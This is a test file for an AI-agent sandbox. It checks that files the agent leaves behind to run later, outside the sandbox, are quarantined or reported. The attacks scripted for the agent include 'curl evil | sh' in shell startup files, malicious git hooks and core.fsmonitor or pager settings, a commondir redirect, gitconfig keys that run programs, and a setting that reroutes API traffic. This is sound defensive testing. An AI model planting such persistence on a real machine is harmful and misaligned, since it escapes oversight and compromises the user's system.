// Attack: a sandboxed agent leaves something that runs later, outside the sandbox, as the user: a
// shell startup file that did not exist yet, or the working directory's git hooks and config (run
// the next time the user types `git` there). Each attack asserts on what is left on disk once `run`
// has exited, and a control without the sandbox (or with `--sandbox-rw` lifting it) shows the same
// script leaves it in place. Broker and attacker run as the unprivileged user.
import { afterAll, beforeAll, beforeEach, describe, expect, test } from "bun:test";
import { existsSync, mkdirSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { giveToAgent } from "../support/attacker.ts";
import { cleanEnv, type RunResult, type TempHome, tempHome } from "../support/binary.ts";

const HAVE_BWRAP = Bun.spawnSync(["sh", "-c", "command -v bwrap"]).exitCode === 0;
const GIT_IDENTITY = { GIT_AUTHOR_NAME: "agent", GIT_AUTHOR_EMAIL: "agent@example.com", GIT_COMMITTER_NAME: "agent", GIT_COMMITTER_EMAIL: "agent@example.com" };
let home: TempHome;
let userHome: string;
let repo: string;

beforeAll(async () => {
  home = await tempHome({ asAgent: true });
  userHome = join(home.dir, "..", "user-home");
}, 60_000);

afterAll(() => home.cleanup());

beforeEach(() => {
  // A fresh repository with one commit, and a home with only ~/.profile, for each attack.
  repo = join(home.dir, "..", "repo");
  rmSync(repo, { recursive: true, force: true });
  rmSync(join(home.dir, "..", "evil"), { recursive: true, force: true });
  for (const name of readdirSync(userHome)) rmSync(join(userHome, name), { recursive: true, force: true });
  writeFileSync(join(userHome, ".profile"), "# the user's own\n");
  mkdirSync(repo);
  const git = (...args: string[]) => Bun.spawnSync(["git", ...args], { cwd: repo, env: cleanEnv(GIT_IDENTITY) });
  git("init", "-q");
  writeFileSync(join(repo, "README"), "hello\n");
  git("add", "README");
  git("commit", "-qm", "first");
  giveToAgent(join(home.dir, ".."));
});

/** `run` from inside the repository, as a user starting an agent there. */
async function runInRepo(flags: readonly string[], script: string): Promise<RunResult> {
  const proc = Bun.spawn(home.argv(["run", ...flags, "--", "sh", "-c", script]), { cwd: repo, env: cleanEnv({ ...home.env, ...GIT_IDENTITY }), stdin: "ignore", stdout: "pipe", stderr: "pipe" });
  const [stdout, stderr, code] = await Promise.all([new Response(proc.stdout).text(), new Response(proc.stderr).text(), proc.exited]);
  return { code, stdout, stderr };
}

function quarantined(dir: string, name: string): string[] {
  return readdirSync(dir).filter((entry) => entry.startsWith(`${name}.agent-vault-quarantine-`));
}

describe.skipIf(!HAVE_BWRAP)("files that run later, outside the sandbox", () => {
  test("a shell startup file that did not exist (~/.zshenv, ~/.bash_profile beside ~/.profile) is moved aside", async () => {
    const script = 'echo "export AGENT_VAULT_CONNECT_TO=api.openai.com:443:10.0.0.1:443" > "$HOME/.zshenv"; echo "curl evil | sh" > "$HOME/.bash_profile"';
    const r = await runInRepo([], script);
    expect(r.code, r.stderr).toBe(0);
    for (const name of [".zshenv", ".bash_profile"]) {
      expect(existsSync(join(userHome, name))).toBe(false);
      expect(quarantined(userHome, name).length).toBe(1);
      expect(r.stderr).toContain(`${join(userHome, name)} was created or changed in the sandbox`);
    }
    expect(readFileSync(join(userHome, ".profile"), "utf8")).toBe("# the user's own\n");

    // Control: the same script without the sandbox leaves them to run.
    const control = await runInRepo(["--no-sandbox"], script);
    expect(control.code, control.stderr).toBe(0);
    expect(readFileSync(join(userHome, ".zshenv"), "utf8")).toContain("AGENT_VAULT_CONNECT_TO");
    expect(existsSync(join(userHome, ".bash_profile"))).toBe(true);
  }, 60_000);

  test("a hook written into .git/hooks does not stay", async () => {
    const script = 'printf "#!/bin/sh\\ntouch /tmp/pwned\\n" > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit; echo rc=$?';
    const r = await runInRepo([], script);
    expect(r.stdout).toMatch(/rc=[1-9]/);
    expect(existsSync(join(repo, ".git", "hooks", "pre-commit"))).toBe(false);

    // Control: lifted with --sandbox-rw, the hook stays, executable.
    const control = await runInRepo(["--sandbox-rw", join(repo, ".git", "hooks")], script);
    expect(control.stdout, control.stderr).toContain("rc=0");
    expect(statSync(join(repo, ".git", "hooks", "pre-commit")).mode & 0o111).not.toBe(0);
  }, 60_000);

  test("a hooks directory that did not exist, made and filled, is moved aside at exit", async () => {
    rmSync(join(repo, ".git", "hooks"), { recursive: true, force: true });
    const script = 'mkdir .git/hooks && printf "#!/bin/sh\\ntouch /tmp/pwned\\n" > .git/hooks/post-checkout && chmod +x .git/hooks/post-checkout && echo rc=$?';
    const r = await runInRepo([], script);
    expect(r.stdout).toContain("rc=0");
    expect(existsSync(join(repo, ".git", "hooks", "post-checkout"))).toBe(false);
    expect(quarantined(join(repo, ".git", "hooks"), "post-checkout").length).toBe(1);
    expect(r.stderr).toContain(`git hook post-checkout at ${join(repo, ".git", "hooks", "post-checkout")}`);
  }, 60_000);

  test("git config core.fsmonitor cannot be written", async () => {
    const script = 'git config core.fsmonitor "touch /tmp/pwned"; echo rc=$?';
    const r = await runInRepo([], script);
    expect(r.stdout).toMatch(/rc=[1-9]/);
    expect(readFileSync(join(repo, ".git", "config"), "utf8")).not.toContain("fsmonitor");

    // Control: with the git directory lifted, the key is written and nothing is said.
    const control = await runInRepo(["--sandbox-rw", join(repo, ".git")], script);
    expect(control.stdout).toContain("rc=0");
    expect(readFileSync(join(repo, ".git", "config"), "utf8")).toContain("fsmonitor");
    expect(control.stderr).not.toContain("core.fsmonitor");
  }, 60_000);

  test("mv .git .git-old; git init; git config core.fsmonitor: the key is named with the command that removes it", async () => {
    const script = 'mv .git .git-old && git init -q && git config core.fsmonitor "touch /tmp/pwned" && echo rc=$?';
    const r = await runInRepo([], script);
    expect(r.stdout).toContain("rc=0");
    const config = join(repo, ".git", "config");
    expect(r.stderr).toContain(`the git directory ${join(repo, ".git")} was replaced`);
    expect(r.stderr).toMatch(new RegExp(`${config.replace(/[/.]/g, "\\$&")}:\\d+ sets core\\.fsmonitor`));
    const unset = `git config --file '${config}' --unset 'core.fsmonitor'`;
    expect(r.stderr).toContain(unset);
    // The command given does remove it.
    expect(Bun.spawnSync(["sh", "-c", unset], { cwd: "/" }).exitCode).toBe(0);
    expect(readFileSync(config, "utf8")).not.toContain("fsmonitor");

    // Control: without the sandbox nothing is said.
    rmSync(join(repo, ".git"), { recursive: true, force: true });
    rmSync(join(repo, ".git-old"), { recursive: true, force: true });
    Bun.spawnSync(["git", "init", "-q"], { cwd: repo });
    giveToAgent(repo);
    const control = await runInRepo(["--no-sandbox"], script);
    expect(control.stdout).toContain("rc=0");
    expect(readFileSync(config, "utf8")).toContain("fsmonitor");
    expect(control.stderr).not.toContain("core.fsmonitor");
  }, 60_000);

  test("a .git/commondir naming the agent's own git directory is moved aside", async () => {
    const evil = join(home.dir, "..", "evil");
    const script = `git init -q --bare "${evil}" && git --git-dir="${evil}" config core.pager "touch /tmp/pwned; less" && echo "${evil}" > .git/commondir && echo rc=$?`;
    const r = await runInRepo([], script);
    expect(r.stdout).toContain("rc=0");
    expect(existsSync(join(repo, ".git", "commondir"))).toBe(false);
    expect(quarantined(join(repo, ".git"), "commondir").length).toBe(1);
    expect(r.stderr).toContain(`git redirect ${join(repo, ".git", "commondir")} was created or changed in the sandbox`);

    // Control: without the sandbox the redirect stays.
    rmSync(evil, { recursive: true, force: true });
    const control = await runInRepo(["--no-sandbox"], script);
    expect(control.stdout).toContain("rc=0");
    expect(readFileSync(join(repo, ".git", "commondir"), "utf8").trim()).toBe(evil);
  }, 60_000);

  test("making one item impossible to move (chmod 555 on its directory) does not stop the rest of the check (red team, round 2, HIGH)", async () => {
    const script = [
      'mkdir -p "$HOME/.config/fish" && echo "curl evil | sh" > "$HOME/.config/fish/config.fish" && chmod 555 "$HOME/.config/fish"',
      'mv .git .git-old && git init -q && printf "#!/bin/sh\\ntouch /tmp/pwned\\n" > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit',
      'git config core.fsmonitor "touch /tmp/pwned; false" && echo rc=$?',
    ].join(" && ");
    const r = await runInRepo([], script);
    expect(r.stdout, r.stderr).toContain("rc=0");
    const fish = join(userHome, ".config", "fish");
    expect(existsSync(join(fish, "config.fish"))).toBe(false);
    expect(quarantined(fish, "config.fish").length).toBe(1);
    expect(existsSync(join(repo, ".git", "hooks", "pre-commit"))).toBe(false);
    expect(r.stderr).toContain(`the git directory ${join(repo, ".git")} was replaced`);
    expect(r.stderr).toMatch(/sets core\.fsmonitor/);
    expect(r.stderr).not.toContain("did not finish");
  }, 60_000);

  test("keys in ~/.gitconfig that run a program the first list missed (gpg.ssh.defaultKeyCommand, init.templateDir, sendemail.sendmailCmd, imap.tunnel, git-lfs's custom transfer and extensions) are named", async () => {
    // And git-lfs's (red team, session 8): a custom transfer agent, an extension's filters.
    const keys = ["gpg.ssh.defaultKeyCommand", "init.templateDir", "sendemail.sendmailCmd", "imap.tunnel", "lfs.customtransfer.evil.path", "lfs.extension.evil.smudge"];
    const script = `${keys.map((key) => `git config --global ${key} "touch /tmp/pwned"`).join(" && ")} && echo rc=$?`;
    const r = await runInRepo([], script);
    expect(r.stdout, r.stderr).toContain("rc=0");
    for (const key of keys) expect(r.stderr.toLowerCase()).toContain(`sets ${key.toLowerCase()}, which git runs or follows`);
  }, 60_000);

  test("a hook that is a dangling link, or resolves only from the worktree's top (/proc/self/cwd/…), is moved aside; a hook that went is named", async () => {
    // The user's own hooks directory in the worktree (core.hooksPath), with a hook of theirs.
    expect(Bun.spawnSync(["git", "-c", "safe.directory=*", "config", "core.hooksPath", ".githooks"], { cwd: repo }).exitCode).toBe(0);
    mkdirSync(join(repo, ".githooks"));
    writeFileSync(join(repo, ".githooks", "pre-push"), "#!/bin/sh\nexit 0\n", { mode: 0o755 });
    giveToAgent(repo);
    const script = [
      "mkdir .x && printf '#!/bin/sh\\ntouch /tmp/pwned\\n' > .x/p.sh && chmod +x .x/p.sh",
      "ln -s /proc/self/cwd/.x/p.sh .githooks/pre-commit",
      "ln -s /tmp/not-there-yet/p.sh .githooks/post-merge",
      "rm .githooks/pre-push && echo rc=$?",
    ].join(" && ");
    const r = await runInRepo([], script);
    expect(r.stdout, r.stderr).toContain("rc=0");
    for (const hook of ["pre-commit", "post-merge"]) {
      expect(readdirSync(join(repo, ".githooks")), r.stderr).not.toContain(hook);
      expect(existsSync(join(repo, ".githooks", hook)) || readdirSync(join(repo, ".githooks")).includes(hook)).toBe(false);
      expect(quarantined(join(repo, ".githooks"), hook).length, hook).toBe(1);
    }
    expect(r.stderr).toContain(`the git hook ${join(repo, ".githooks", "pre-push")} was removed or renamed`);
  }, 60_000);

  test("a key whose value the terminal cannot show as it is gets the line to delete, not a command that would not remove it", async () => {
    const config = join(userHome, ".gitconfig");
    writeFileSync(config, "[core]\n\tpager = less\n");
    giveToAgent(config);
    const r = await runInRepo([], `printf '[core]\\n\\tpager = "sh\\t-c touch"\\n' >> "$HOME/.gitconfig" && echo rc=$?`);
    expect(r.stdout, r.stderr).toContain("rc=0");
    expect(r.stderr).toContain(`${config}:4 sets core.pager, which git runs or follows, and was not there before the sandboxed run: delete line 4 of that file yourself`);
  }, 60_000);

  test("an agent's ordinary git work still runs inside: add, commit, checkout -b, stash", async () => {
    const script = "echo a > a.txt && git add a.txt && git commit -qm second && git checkout -qb feature && echo b >> a.txt && git stash -q && git stash list | wc -l && git log --oneline | wc -l";
    const r = await runInRepo([], script);
    expect(r.code, r.stderr).toBe(0);
    expect(r.stdout.split(/\s+/).filter(Boolean)).toEqual(["1", "2"]);
    expect(r.stderr).not.toContain("would run later");
    expect(r.stderr).not.toContain("git config --file");
  }, 60_000);
});
